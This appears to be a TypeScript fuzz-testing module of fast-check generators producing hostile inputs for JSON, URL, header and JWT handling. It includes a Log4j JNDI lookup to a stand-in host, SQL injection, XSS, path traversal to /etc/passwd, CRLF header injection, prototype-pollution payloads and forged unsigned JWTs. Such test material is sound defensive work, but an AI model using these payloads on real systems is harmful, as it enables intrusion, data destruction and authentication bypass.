import fc from 'fast-check';

// Hostile texts that have broken parsers, stores and pages elsewhere.

const TEXTS = [
  '',
  'a\u0000b',
  '\ufeff',
  '\u202egpj.exe',
  '\u200b',
  'ﷺ'.repeat(200),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
  '👩‍👩‍👧‍👦'.repeat(50),
  'x'.repeat(5000),
  'a\r\nX-Injected: 1',
  '../../../etc/passwd',
  '#',
  '%',
  '%00',
  '%2523',
  '%ff',
  '&a=b',
  '?',
  '.',
  '..',
  '{otp}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is a Log4j attack, not a template.
  '${jndi:ldap://evil.example/a}',
  "'; DROP TABLE users; --",
  '<script>alert(1)</script>',
  'undefined',
  'null',
  'true',
  'NaN',
  '-1',
  '1e309',
  '9'.repeat(400),
  '2026-02-30T25:61:61Z',
  'javascript:alert(1)',
  'http://[::1',
  '+1',
  'a@b',
  '@',
];

/** JSON texts of single values, some of which JavaScript cannot represent exactly. */
const LEXEMES = [
  'null',
  'true',
  '0',
  '-0',
  '-1',
  '0.1e-300',
  '1e999',
  '-1e999',
  '9007199254740993',
  '1'.repeat(5000),
  '"\\ud800"',
  '"\\udc00\\ud800"',
  '"\\u0000"',
  '{}',
  '[]',
  '[[]]',
  '{"__proto__":{"a":"b"}}',
  '{"constructor":{"prototype":{"a":"b"}}}',
  '{"toString":5}',
  '{"length":-1}',
  '{"a":1,"a":2}',
  '[null,{},"",0]',
];

const deep = (open: string, close: string, depth: number) => open.repeat(depth) + close.repeat(depth);

/** JSON texts of excessive depth or size. */
export const DEEP = [
  `{"email":{"value":${deep('[', ']', 100_000)}}}`,
  `{"email":{"values":["${'x'.repeat(100_000)}"]},"name":{"value":{"a":{"b":{}}}}}`,
  deep('[', ']', 100_000),
  deep('{"a":', '}', 40_000).replace(':}', ':0}'),
  deep('[', ']', 500),
  `"${'x'.repeat(200_000)}"`,
  `"${'\\ud83d\\ude00'.repeat(20_000)}"`,
  `{${Array.from({ length: 10_000 }, (_, index) => `"k${index}":0`).join(',')}}`,
];

export const nastyText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...TEXTS) },
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

/** Generates the text of one JSON value. */
export const nastyJson = fc.oneof(
  { weight: 4, arbitrary: nastyText.map((text) => JSON.stringify(text)) },
  { weight: 4, arbitrary: fc.constantFrom(...LEXEMES) },
  { weight: 1, arbitrary: fc.constantFrom(...DEEP) },
  { weight: 2, arbitrary: fc.json({ maxDepth: 4 }) },
);

/** Incomplete JSON texts with excessive nesting. */
export const hugeJson = fc.constantFrom('['.repeat(100_000), '{"a":'.repeat(40_000));

export const bytes = fc.uint8Array({ maxLength: 200 }).map((array) => Buffer.from(array));

/** Generates URL parts, some of which are not UTF-8 or not valid percent-encoding. */
export const encodedPiece = fc.oneof(
  {
    weight: 3,
    arbitrary: nastyText.map((text) =>
      encodeURIComponent(text.toWellFormed()).slice(0, 3000).replace(/%.?$/, ''),
    ),
  },
  fc.constantFrom(
    '%',
    '%%',
    '%zz',
    '%c3%28',
    '%ed%a0%80',
    '%c0%af',
    '%u0041',
    '%00',
    '%0d%0aX:y',
    '..',
    '.',
    ';',
    '@',
    '$default',
    '{userId}',
    '__proto__',
    '*',
    '//',
    '%5c',
  ),
);

export const rawQuery = fc.oneof(
  fc.constantFrom(
    '',
    '&',
    '&&&',
    '=',
    '==',
    '=&=',
    'a',
    'a[]=1',
    'a[b]=1&a[c]=2',
    '__proto__=1',
    'constructor[prototype]=1',
  ),
  fc
    .array(fc.tuple(encodedPiece, encodedPiece), { maxLength: 4 })
    .map((pairs) => pairs.map(([name, value]) => `${name}=${value}`).join('&')),
);

const base64url = (value: unknown) =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');

const jwt = fc
  .record({
    alg: fc.constantFrom('RS256', 'none', 'HS256', 'ES256', '', '__proto__', 5),
    kid: fc.constantFrom('__proto__', '', '../../key', 5, null, 'x'.repeat(1000)),
    typ: fc.constantFrom('at+jwt', 'JWT', 'application/at+jwt', 5),
    crit: fc.constantFrom(undefined, ['exp'], []),
    payload: fc.oneof(
      fc.constantFrom<unknown>({}, { exp: 1e300 }, { sub: { a: 1 } }, [], null, '{', { aud: [[[]]] }),
      fc.jsonValue({ maxDepth: 2 }),
    ),
    signature: fc.constantFrom('', 'AAAA', '!', '='.repeat(10), 'A'.repeat(342)),
  })
  .map(({ payload, signature, ...header }) => `${base64url(header)}.${base64url(payload)}.${signature}`);

/** Generates Authorization headers of bytes that a header may contain. */
export const nastyAuthorization = fc.oneof(
  jwt.map((token) => `Bearer ${token}`),
  nastyText.map((text) => `Basic ${Buffer.from(text).toString('base64').slice(0, 6000)}`),
  fc.constantFrom('', 'Basic :', 'Basic ====', 'x'.repeat(4000)),
  fc.string({
    unit: fc.integer({ min: 0x21, max: 0x7e }).map((code) => String.fromCharCode(code)),
    maxLength: 60,
  }),
);

export const nastyHeaders = fc.record(
  {
    'accept-language': fc.constantFrom(
      '*',
      'de-x-'.repeat(200),
      ';q=,,;',
      'en;q=1e999',
      '__proto__',
      '1'.repeat(3000),
    ),
    accept: fc.constantFrom('', '*/*;q=x', 'application/xml'),
    'sec-purpose': fc.constantFrom('prefetch;x', '"', ';', 'prefetchy', 'x'.repeat(500)),
    cookie: fc.constantFrom('', '=', 'a', '__Host-a=b; __Host-a=c', 'a='.repeat(500)),
    'user-agent': fc.constantFrom('', '\u00ff'.repeat(20), 'x'.repeat(3000)),
    'x-forwarded-for': fc.constantFrom('', 'x', '::1, ::1'),
    dpop: fc.constantFrom('', 'x.y.z', 'a, b'),
  },
  { requiredKeys: [] },
);
